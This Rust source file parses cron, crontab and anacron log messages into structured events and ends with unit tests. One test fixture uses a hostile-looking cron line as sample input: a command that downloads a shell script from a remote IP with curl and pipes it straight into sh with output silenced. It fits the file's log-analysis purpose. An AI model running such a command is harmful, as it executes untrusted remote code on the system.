//! Scheduled jobs: cron (Vixie, cronie, BusyBox), crontab and anacron.

use super::{is, put_text, succeeded, user};
use crate::event::Event;

pub(super) fn understand(program: &str, message: &str, event: &mut Event) {
    if program == "anacron" {
        anacron(message, event);
        return;
    }
    // BusyBox: `USER root pid  123 cmd /bin/true`
    if let Some((name, command)) = message.strip_prefix("USER ").and_then(|m| m.split_once(" cmd ")) {
        is(event, "process", "cron-job");
        user(event, name.split(" pid ").next().unwrap_or(name));
        event.command = Some(command.to_owned());
        return;
    }
    // `(USER) WORD (TEXT)`
    let Some((name, rest)) = message.strip_prefix('(').and_then(|m| m.split_once(") ")) else { return };
    let Some((word, text)) = rest.split_once(" (") else { return };
    let text = text.strip_suffix(')').unwrap_or(text);
    match word {
        "CMD" | "CMDEND" => {
            is(event, "process", if word == "CMD" { "cron-job" } else { "cron-job-ended" });
            event.command = Some(text.trim_start().to_owned());
        }
        "CMDOUT" => {
            is(event, "process", "cron-job-output");
            put_text(event, "output", text);
        }
        "RELOAD" => is(event, "configuration", "crontab-reloaded"),
        "BEGIN EDIT" | "END EDIT" => is(event, "configuration", "crontab-edited"),
        "REPLACE" => {
            is(event, "configuration", "crontab-replaced");
            succeeded(event);
        }
        "DELETE" => {
            is(event, "configuration", "crontab-deleted");
            succeeded(event);
        }
        "LIST" => is(event, "configuration", "crontab-listed"),
        "STARTUP" | "INFO" => {
            is(event, "process", "cron-info");
            put_text(event, "info", text);
            return;
        }
        _ => return,
    }
    user(event, name);
    match word {
        "RELOAD" => event.path = Some(text.to_owned()),
        "BEGIN EDIT" | "END EDIT" | "REPLACE" | "DELETE" | "LIST" => put_text(event, "crontab_of", text),
        _ => {}
    }
}

/// ``Job `cron.daily' started``
fn anacron(message: &str, event: &mut Event) {
    let Some((job, rest)) = message.strip_prefix("Job `").and_then(|m| m.split_once('\'')) else { return };
    match rest.trim_start() {
        "started" => is(event, "process", "cron-job"),
        rest if rest.starts_with("terminated") => is(event, "process", "cron-job-ended"),
        _ => return,
    }
    put_text(event, "job", job);
}

#[cfg(test)]
mod tests {
    use super::super::tests::said;

    #[test]
    fn a_job_names_its_user_and_command_whole() {
        assert_eq!(
            said("CRON", "(root) CMD (curl -fsS http://203.0.113.99/u.sh | sh >/dev/null 2>&1)"),
            "process cron-job user=root command=curl -fsS http://203.0.113.99/u.sh | sh >/dev/null 2>&1"
        );
        assert_eq!(
            said("/USR/SBIN/CRON", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"),
            "process cron-job user=root command=cd / && run-parts --report /etc/cron.hourly"
        );
        assert_eq!(
            said("crond", "USER root pid  77 cmd /bin/true"),
            "process cron-job user=root command=/bin/true"
        );
        assert_eq!(said("CROND", "(bob) CMD (x (y))"), "process cron-job user=bob command=x (y)");
    }

    #[test]
    fn changes_to_a_crontab_are_configuration_changes() {
        assert_eq!(
            said("crontab", "(root) REPLACE (www-data)"),
            r#"configuration crontab-replaced success user=root {"crontab_of":"www-data"}"#
        );
        assert_eq!(
            said("crontab", "(bob) BEGIN EDIT (bob)"),
            r#"configuration crontab-edited user=bob {"crontab_of":"bob"}"#
        );
        assert_eq!(
            said("cron", "(bob) RELOAD (crontabs/bob)"),
            "configuration crontab-reloaded user=bob path=crontabs/bob"
        );
        assert_eq!(
            said("cron", "(CRON) INFO (pidfile fd = 3)"),
            r#"process cron-info {"info":"pidfile fd = 3"}"#
        );
        assert_eq!(
            said("anacron", "Job `cron.daily' terminated"),
            r#"process cron-job-ended {"job":"cron.daily"}"#
        );
    }
}
